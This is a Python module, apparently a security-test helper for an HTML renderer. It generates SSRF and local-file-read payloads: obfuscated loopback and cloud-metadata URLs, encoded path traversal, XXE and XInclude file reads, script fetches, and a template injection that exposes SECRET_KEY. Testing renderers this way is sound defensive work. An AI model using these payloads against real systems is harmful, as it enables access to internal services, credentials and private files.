"""What somebody could type who wants a document to fetch, read or run something; `{port}` and `{file}` are the bait."""

_ADDRESSES = [
    "http://127.0.0.1:{port}/a",
    "http://localhost:{port}/a",
    "http://[::1]:{port}/a",
    "http://2130706433:{port}/a",
    "http://0x7f000001:{port}/a",
    "http://0177.0.0.1:{port}/a",
    "http://127.1:{port}/a",
    "http://0:{port}/a",
    "http://[::ffff:127.0.0.1]:{port}/a",
    "http://static.invalid@127.0.0.1:{port}/static/a.css",
    "http://127.0.0.1:{port}\\@static.invalid/static/a.css",
    "https://127.0.0.1:{port}/a",
    "//127.0.0.1:{port}/a",
    "HTTP://127.0.0.1:{port}/redirect",
    "ftp://127.0.0.1:{port}/a",
    "gopher://127.0.0.1:{port}/_a",
    "http://169.254.169.254/latest/meta-data/",
    "http://rebind.example.org:{port}/a",
    "\\\\127.0.0.1\\share\\a",
    "file://{file}",
    "file:{file}",
    "FILE://localhost{file}",
    "file://127.0.0.1{file}",
    "{file}",
    "/static/..{file}",
    "/static/../../../../../..{file}",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e{file}",
    "/static/css/..%2f..%2f..%2f..%2f..%2f..%2f..{file}",
    "/static//{file}",
    "https://static.invalid/static/{file}",
    "jar:file://{file}!/a",
    "netdoc:{file}",
]
_DATA = [
    "data:text/html,<img src=http://127.0.0.1:{port}/a>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='file://{file}'/></svg>",
    "data:text/css,@import 'http://127.0.0.1:{port}/a'",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
]
# Every way in which a page asks for something; each address is put into several of them, in turn.
_WAYS = [
    '<img src="{}">',
    '<link rel=stylesheet href="{}">',
    '<link rel=attachment href="{}">',
    "<style>@import url('{}');</style>",
    "<style>@font-face{{font-family:x;src:url('{}')}} p{{font-family:x}}</style><p>x</p>",
    '<object data="{}" type="image/png"></object>',
    '<embed src="{}">',
    "<p style=\"background:url('{}')\">x</p>",
    "<p style=\"list-style:url('{}') inside;display:list-item\">x</p>",
    "<style>p::before{{content:url('{}')}}</style><p>x</p>",
    "<style>@page{{background:url('{}')}}</style>",
    '<svg width=9 height=9><image href="{}" width=9 height=9 /></svg>',
    '<svg width=9 height=9><image xlink:href="{}" width=9 height=9 /></svg>',
    '<svg width=9 height=9><use href="{}#a"/></svg>',
    '<svg><style>@import url("{}");</style></svg>',
    '<svg width=9 height=9><rect width=9 height=9 fill="url({}#a)"/></svg>',
    '<a rel=attachment href="{}">x</a>',
    '<img srcset="{} 2x">',
    '<video poster="{}"></video>',
    '<iframe src="{}"></iframe>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}"><img src="a.png">',
    '<math><mglyph src="{}"/></math>',
    '<input type=image src="{}">',
    "<p style=\"border-image:url('{}') 1;mask:url('{}');cursor:url('{}')\">x</p>",
    '<body background="{}">',
    "<?xml-stylesheet href='{}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{}'>]><p>&e;</p>",
]
_SCRIPTS = [
    "<script>fetch('http://127.0.0.1:{port}/a')</script>",
    "<img src=x onerror=\"fetch('http://127.0.0.1:{port}/a')\">",
    "<svg onload=\"location='http://127.0.0.1:{port}/a'\"></svg>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{file}' parse='text'/>",
    "{% include '{file}' %} {{ settings.SECRET_KEY }}",
]

# A page that names a profile of colours it cannot have is not drawn at all.
FATAL = "<style>@color-profile --x {src:url('http://127.0.0.1:{port}/a')}</style>"


def payloads(port: int, file: str) -> list[str]:
    """Return every payload, with the bait in it."""
    found = []
    for number, address in enumerate([*_ADDRESSES, *_DATA]):
        ways = [_WAYS[(number * 7 + step * 5) % len(_WAYS)] for step in range(4)]
        found += [way.replace("{}", address).replace("{{", "{").replace("}}", "}") for way in ways]
    found += [way.replace("{}", f"http://127.0.0.1:{port}/way{n}") for n, way in enumerate(_WAYS)]
    found += [way.replace("{}", f"file://{file}?{n}") for n, way in enumerate(_WAYS)]
    found += _SCRIPTS
    return [text.replace("{port}", str(port)).replace("{file}", file) for text in found]
